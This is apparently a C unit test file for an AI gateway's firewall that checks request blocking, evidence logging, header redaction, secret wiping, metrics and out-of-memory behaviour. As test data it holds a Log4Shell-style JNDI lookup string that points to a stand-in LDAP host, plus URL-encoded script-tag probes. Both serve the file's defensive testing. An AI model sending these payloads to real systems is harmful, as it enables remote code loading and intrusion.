/* What becomes evidence of an exchange, and what does not: who is asked, what is kept of a head, and that a caller's
 * memory is not read after it is gone. */
#include "unit/base/fault_alloc.h"
#include "unit/gateway/fake.h"

#define BASE   "providers: [{type: echo}]\nauth: {jwt: {enabled: false}}\nlog: {access: false}\n"
#define CHAT   "{\"model\":\"echo\",\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}"
#define ATTACK "{\"model\":\"echo\",\"messages\":[],\"user\":\"${jndi:ldap://e.example/a}\"}"

static const aigw_header fields[] = {
    {{"host", 4}, {"gateway.example", 15}},           {{"user-agent", 10}, {"unit/1", 6}},
    {{"content-type", 12}, {"application/json", 16}}, {{"x-api-key", 9}, {"SECRET-1", 8}},
    {{"x-team-token", 12}, {"SECRET-2", 8}},
};

enum { FIELDS = sizeof fields / sizeof *fields };

/* Starts with copies of everything that are gone when start has returned. */
static aigw_exchange *start(fake *f, const char *target, const char *body, bool follows,
                            aigw_channel channel, const char *peer)
{
    aigw_request request = fake_request(target, follows ? "" : body);
    aigw_header copies[FIELDS];
    char *texts[2 * FIELDS + 1];
    size_t n = 0;
    request.method = aigw_slice_of(body ? "POST" : "GET");
    for (size_t i = 0; i < FIELDS; i++) {
        texts[n] = strndup(fields[i].name.data, fields[i].name.len);
        copies[i].name = gw_slice(texts[n++], fields[i].name.len);
        texts[n] = strndup(fields[i].value.data, fields[i].value.len);
        copies[i].value = gw_slice(texts[n++], fields[i].value.len);
    }
    texts[n] = strdup(target);
    request.target = aigw_slice_of(texts[n++]);
    request.headers = copies;
    request.header_count = FIELDS;
    request.body_follows = follows;
    request.channel = channel;
    request.peer = aigw_slice_of(peer);
    request.version = GW_S("HTTP/1.1");
    aigw_exchange *x = NULL;
    assert_int_equal(aigw_exchange_start(f->loop, &request, NULL, NULL, &x, NULL), AIGW_OK);
    while (n)
        free(texts[--n]);
    memset(copies, 0x5a, sizeof copies);
    return x;
}

static long metric(fake *f, const char *rule, const char *action)
{
    char name[160];
    aigw_slice text = {NULL, 0};
    snprintf(name, sizeof name, "aigw_waf_requests_total{rule=\"%s\",action=\"%s\"} ", rule,
             action);
    assert_int_equal(aigw_metrics_render(f->gw, &text, NULL), AIGW_OK);
    char *copy = strndup(text.data, text.len), *at = strstr(copy, name);
    if (!at)
        fail_msg("no %s in %s", name, copy);
    long value = strtol(at + strlen(name), NULL, 10);
    free(copy);
    aigw_bytes_free(text);
    return value;
}

static void end(fake *f, aigw_exchange *x, int status)
{
    fake_result r = fake_take(f, x);
    assert_int_equal(r.status, status);
    free(r.body);
}

static void who_is_vouched_for_is_nobodys_business(void **state)
{
    (void)state;
    fake *f = fake_new(BASE "waf: {log: all}\n", NULL, 0);
    aigw_exchange *x = start(f, OPENAI_PATH, CHAT, false, AIGW_CHANNEL_VOUCHED, "127.0.0.1");
    assert_false(x->evidence.on);
    end(f, x, 200);
    assert_int_equal(metric(f, "Default_Action", "allow"), 0);
    assert_string_equal(f->log, "");
    x = start(f, OPENAI_PATH, CHAT, false, AIGW_CHANNEL_CLEAR, "127.0.0.1");
    end(f, x, 200);
    assert_int_equal(metric(f, "Default_Action", "allow"), 1);
    assert_has(f->log, "\"clientIp\":\"127.0.0.1\"");
    fake_free(f);
}

/* A clean request that is not sampled leaves nothing; one whose body is to come keeps its head until then. */
static void only_what_may_be_needed_is_kept(void **state)
{
    (void)state;
    fake *f = fake_new(BASE "waf: {log: matches}\n", NULL, 0);
    int kept = 0;
    for (int i = 0; i < 1000; i++) {
        aigw_exchange *x = start(f, OPENAI_PATH, CHAT, false, AIGW_CHANNEL_CLEAR, "127.0.0.1");
        assert_null(x->evidence.request);
        kept += x->evidence.kept != NULL;
        if (i < 100)
            assert_non_null(x->evidence.kept);
        end(f, x, 200);
    }
    /* 100, and then the i-th by a chance of 100 / i: 100 + 230, with a deviation of 13 */
    if (kept < 230 || kept > 430)
        fail_msg("%d of 1000 were kept", kept);
    aigw_exchange *x = start(f, OPENAI_PATH, ATTACK, true, AIGW_CHANNEL_CLEAR, "127.0.0.1");
    assert_non_null(x->evidence.raw);
    const aigw_slice copy = gw_slice(x->evidence.raw_bytes, x->evidence.raw_len);
    assert_non_null(gw_find(copy, GW_S("SECRET-2"))); /* not yet known to be one */
    assert_null(gw_find(copy, GW_S("SECRET-1")));
    assert_int_equal(aigw_exchange_body(x, GW_S(ATTACK), NULL), AIGW_OK);
    assert_null(x->evidence.raw);
    assert_null(gw_find(copy, GW_S("SECRET-2"))); /* wiped */
    end(f, x, 403);
    assert_has(f->log, "\"terminatingRuleId\":\"AWSManagedRulesKnownBadInputsRuleSet\"");
    assert_has(f->log, "{\"name\":\"user-agent\",\"value\":\"unit/1\"}");
    assert_has(f->log, "{\"name\":\"x-api-key\",\"value\":\"REDACTED\"}");
    assert_has_not(f->log, "SECRET-");
    assert_has_not(f->log, "hello");
    assert_int_equal(metric(f, "ai-gateway-known-bad-inputs", "block"), 1);
    fake_free(f);
}

static void nothing_is_kept_where_nothing_is_shown(void **state)
{
    (void)state;
    fake *f = fake_new(BASE "waf: {log: none, samples: false}\n", NULL, 0);
    aigw_exchange *x = start(f, OPENAI_PATH, ATTACK, true, AIGW_CHANNEL_CLEAR, "127.0.0.1");
    assert_null(x->evidence.raw);
    assert_int_equal(aigw_exchange_body(x, GW_S(ATTACK), NULL), AIGW_OK);
    end(f, x, 403);
    assert_string_equal(f->log, "");
    assert_int_equal(metric(f, "ai-gateway-known-bad-inputs", "block"), 1); /* but it is counted */
    fake_free(f);
}

static void a_request_is_in_the_books_once(void **state)
{
    (void)state;
    fake *f = fake_new(BASE "server: {insecure_no_auth: true}\nwaf: {log: matches}\n", NULL, 0);
    aigw_exchange *x = start(f, "/v1/models?q=%3Cscript%3E", NULL, false, AIGW_CHANNEL_TLS, "");
    aigw_exchange *gone = start(f, OPENAI_PATH, CHAT, true, AIGW_CHANNEL_TLS, "192.0.2.1");
    gw_evidence_settle(x);
    end(f, x, 403);
    assert_int_equal(metric(f, "ai-gateway-common-rules", "block"), 1);
    assert_has(f->log, "\"clientIp\":\"-\""); /* an embedder that names no peer */
    assert_has(f->log, "\"responseCodeSent\":403");
    aigw_exchange_free(gone); /* its client went away; the WAF had let it in */
    assert_int_equal(metric(f, "Default_Action", "allow"), 1);
    fake_free(f);
}

/* The log's level holds: blocks are warnings, counts and all else information. */
static void levels_hold(void **state)
{
    (void)state;
    fake *f = fake_new("providers: [{type: echo}]\nauth: {jwt: {enabled: false}}\n"
                       "log: {access: false, level: warn}\nwaf: {log: all}\n",
                       NULL, 0);
    end(f, start(f, OPENAI_PATH, CHAT, false, AIGW_CHANNEL_CLEAR, "127.0.0.1"), 200);
    assert_string_equal(f->log, "");
    end(f, start(f, "/?q=%3Cscript%3E", NULL, false, AIGW_CHANNEL_CLEAR, "127.0.0.1"), 403);
    assert_has(f->log, "\"level\":\"warn\",\"event\":\"waf\"");
    fake_free(f);
}

/* With the n-th allocation failing a blocked request stays blocked or has no verdict, and nothing is lost. */
static void without_memory(void **state)
{
    (void)state;
    fault_alloc a;
    fault_use(&a, 0);
    fake *f = fake_new(BASE "waf: {log: all}\n", NULL, 0);
    int lost = 0;
    end(f, start(f, "/v1/models?q=%3Cscript%3E", NULL, false, AIGW_CHANNEL_CLEAR, "127.0.0.1"),
        403);
    for (long n = 1; n < 200; n++) {
        f->log_len = 0;
        f->log[0] = '\0';
        a.calls = 0;
        a.fail_at = n;
        aigw_request request = fake_request("/v1/models?q=%3Cscript%3E", NULL);
        request.headers = fields;
        request.header_count = FIELDS;
        request.channel = AIGW_CHANNEL_CLEAR;
        request.peer = GW_S("127.0.0.1");
        aigw_exchange *x = NULL;
        aigw_error err;
        if (aigw_exchange_start(f->loop, &request, NULL, NULL, &x, &err) == AIGW_OK) {
            a.fail_at = a.calls < n ? 0 : a.fail_at;
            aigw_head head = {0};
            assert_int_equal(aigw_exchange_head(x, &head, NULL), AIGW_OK);
            assert_true(head.status == 403 || head.status == 503);
            lost += head.status == 403 && !strstr(f->log, "\"event\":\"waf\"");
            aigw_exchange_free(x);
        }
        if (a.calls < n)
            break;
    }
    a.fail_at = 0;
    assert_true(lost > 0); /* lines were lost, and that is known */
    aigw_slice text = {NULL, 0};
    assert_int_equal(aigw_metrics_render(f->gw, &text, NULL), AIGW_OK);
    assert_null(gw_find(text, GW_S("\naigw_waf_evidence_lost_total 0\n")));
    aigw_bytes_free(text);
    fake_free(f);
    assert_int_equal(a.live, 0);
    fault_done();
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(who_is_vouched_for_is_nobodys_business),
        cmocka_unit_test(only_what_may_be_needed_is_kept),
        cmocka_unit_test(nothing_is_kept_where_nothing_is_shown),
        cmocka_unit_test(a_request_is_in_the_books_once),
        cmocka_unit_test(levels_hold),
        cmocka_unit_test(without_memory),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
